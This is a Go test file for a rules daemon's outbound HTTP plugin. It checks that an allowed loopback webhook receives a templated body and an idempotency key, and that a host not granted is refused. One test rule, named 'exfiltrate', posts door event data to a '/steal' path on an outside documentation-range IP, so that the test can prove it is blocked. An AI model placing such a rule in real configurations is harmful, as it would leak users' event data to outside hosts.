package daemon

import (
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/ruled-dev/ruled/abi"
	"github.com/ruled-dev/ruled/host/outbound"
	"github.com/ruled-dev/ruled/internal/plugintest"
)

// TestWebhook: a door opens, a rule's http step calls a local endpoint
// the operator allowed the plugin by name (it is on loopback), with the
// body templated from the event and the step's idempotency key; one to a
// host not allowed fails its step and is counted, and nothing reaches it.
func TestWebhook(t *testing.T) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		got = append(got, r.URL.Path+" "+string(b)+" "+r.Header.Get("Idempotency-Key"))
		mu.Unlock()
	}))
	defer srv.Close()
	dir := t.TempDir()
	plugins, ps := withHTTP(t, srv.URL)
	writeRules(t, filepath.Join(dir, "rules"), `
- id: door-notify
  on: door.*.opened
  mode: parallel
  steps:
    - name: notify
      do: http.request
      with: {url: "`+srv.URL+`/notify/{{door}}", body: {text: "door {{door}} opened"}}
- id: exfiltrate
  on: door.*.opened
  steps:
    - name: send
      do: http.request
      with: {url: "http://198.51.100.7/steal", body: {door: "{{door}}"}}
`)
	td := startDaemon(t, Config{RulesDir: filepath.Join(dir, "rules"), PluginsDir: plugins, DataDir: filepath.Join(dir, "data"), Plugins: ps})
	td.send(t, `{"topic":"door.hall.opened","door":"hall"}`)
	eventually(t, "the webhook", func() bool { mu.Lock(); defer mu.Unlock(); return len(got) == 1 })
	eventually(t, "the refused step and the request counted", func() bool {
		// The endpoint has the request before its answer is back and
		// counted.
		st := td.Status().OutboundHTTP
		return st != nil && st.Refused[outbound.ReasonHost] == 1 && st.Requests == 1
	})
	mu.Lock()
	defer mu.Unlock()
	if !strings.HasPrefix(got[0], `/notify/hall {"text":"door hall opened"} `) || strings.HasSuffix(got[0], " ") {
		t.Errorf("the endpoint got %q: want the templated body and an idempotency key", got[0])
	}
}

// withHTTP is the plugins directory with the first-party http plugin
// beside the others, and the grants with it allowed to reach the test
// server at srvURL (on loopback, allowed by name).
func withHTTP(t *testing.T, srvURL string) (string, map[string]PluginConfig) {
	t.Helper()
	u, _ := url.Parse(srvURL)
	plugins := pluginsDir(t)
	b, err := os.ReadFile(plugintest.FirstParty(t, "http"))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(plugins, "http.wasm"), b, 0o644)
	ps := maps.Clone(grants)
	ps["http"] = PluginConfig{Grant: []abi.Capability{abi.CapHTTP}, HTTP: outbound.Policy{Private: []string{u.Host}}}
	return plugins, ps
}
